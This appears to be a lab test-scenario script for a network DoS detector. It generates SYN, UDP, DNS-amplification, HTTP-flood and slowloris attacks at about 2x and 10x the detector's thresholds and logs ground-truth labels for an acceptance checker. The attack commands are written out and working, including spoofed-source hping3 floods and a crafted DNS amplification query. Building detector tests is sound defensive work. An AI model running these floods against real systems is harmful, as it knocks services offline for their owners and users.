# denial of service at known rates, for the DoS detector's acceptance
# (lab/tools/dos_check.py): each vector at about 2x and 10x of Beffroi's
# default trigger (the dos.*.floor of an idle host: SYN 1000 pps, UDP 1000 pps,
# amplification 200 datagrams/s, HTTP 200 requests/s, slowloris 100 slow
# connections), 3 s each, with quiet gaps so every attack ends before the next.
SERVICES=(web dns reflector)
PROTOS=(eth ip tcp udp dns http)
source "$LAB_DIR/scenarios/common.sh"
gap() { sleep "${DOS_GAP:-6}"; }
# hping3 sends one packet per (interval + ~250 us) here: rates are set with the
# interval and the number of parallel senders; the checker measures the real
# rate from the pcap.
par() { # n cmd...: n copies in parallel
  local n="$1"; shift; local pids=() i
  for i in $(seq 1 "$n"); do "$@" >>"$RD/log/steps.log" 2>&1 & pids+=($!); done
  for i in "${pids[@]}"; do wait "$i" || true; done
}
rate_syn() { # mult us count [senders]
  step_begin
  par "${4:-1}" nsx atk timeout 20 hping3 -q -S --rand-source -p 80 -c "$3" -i u"$2" $IP_WEB
  step_end
  gt_add dos syn_flood "" "$IP_WEB" "$T0" "$T1" "SYN flood x$1 against $IP_WEB:80, random spoofed sources" \
    '{"multiple": '$1', "trigger_pps": 1000, "spoofed_sources": true, "real_origin": "'$IP_ATK'", "packets": '$3'}'
}
rate_udp() { # mult us count [senders]
  step_begin
  par "${4:-1}" nsx atk2 timeout 20 hping3 -q --udp -p ++1024 -d 512 -c "$3" -i u"$2" $IP_WEB
  step_end
  gt_add dos udp_flood "$IP_ATK2" "$IP_WEB" "$T0" "$T1" "UDP flood x$1 from $IP_ATK2 to $IP_WEB" \
    '{"multiple": '$1', "trigger_pps": 1000, "packets": '$3'}'
}
rate_amp() { # mult us count
  local qf="$RD/amp-query.bin"
  python3 - "$qf" <<'PY'
import struct, sys
name = b"".join(bytes([len(p)]) + p for p in b"cdn-assets.example.net".split(b".")) + b"\0"
q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 1) + name + struct.pack(">HH", 16, 1)
q += b"\0" + struct.pack(">HHIH", 41, 4096, 0, 0)
open(sys.argv[1], "wb").write(q)
PY
  local len; len=$(stat -c %s "$qf"); step_begin
  qt nsx atk timeout 20 hping3 -q --udp -a $IP_WEB -s 40000 -k -p 53 -E "$qf" -d "$len" -c "$3" -i u"$2" $IP_REFLECTOR
  sleep 0.5; step_end
  gt_add dos dns_amplification "$IP_REFLECTOR" "$IP_WEB" "$T0" "$T1" "DNS amplification x$1 through $IP_REFLECTOR against $IP_WEB" \
    '{"multiple": '$1', "trigger_pps": 200, "reflector": "'$IP_REFLECTOR'", "real_origin": "'$IP_ATK'", "spoofed_sources": true, "queries": '$3'}'
}
rate_http() { # mult rate seconds: a paced client, or wrk at full speed for rate 0
  step_begin
  if [ "$2" = 0 ]; then
    qt nsx atk2 timeout 30 wrk -t 2 -c 32 -d "$3"s "http://$IP_WEB/index.html"
  else
    qt nsx atk2 timeout 30 python3 "$LAB_DIR/tools/http_flood.py" $IP_WEB 80 /index.html "$2" "$3" 16
  fi
  step_end
  gt_add dos http_flood "$IP_ATK2" "$IP_WEB" "$T0" "$T1" "HTTP flood x$1: $2 GET/s for $3 s from $IP_ATK2 to $IP_WEB" \
    '{"multiple": '$1', "trigger_rps": 200, "rate": '$2'}'
}
rate_slow() { # mult conns conn_rate seconds
  step_begin
  qt nsx atk timeout $(( $4 + 15 )) slowhttptest -H -c "$2" -r "$3" -i 5 -l "$4" -x 24 -p 3 -u "http://$IP_WEB/index.html"
  step_end
  gt_add dos slowloris "$IP_ATK" "$IP_WEB" "$T0" "$T1" "Slowloris x$1: $2 slow connections ($3/s) from $IP_ATK to $IP_WEB for $4 s" \
    '{"multiple": '$1', "trigger_conns": 100, "connections": '$2'}'
}
scenario_run() {
  benign_browse ws1 1
  rate_syn 2 250 8000;      gap
  rate_syn 10 150 10000 5;  gap
  rate_udp 2 250 8000;      gap
  rate_udp 10 150 10000 4;  gap
  rate_amp 2 2250 1600;     gap
  rate_amp 10 250 8000;     gap
  rate_http 2 400 3;     gap
  rate_http 10 2000 3;   gap
  rate_slow 2 300 200 8;   gap
  rate_slow 10 1200 1000 8; gap
  benign_browse ws2 1
}
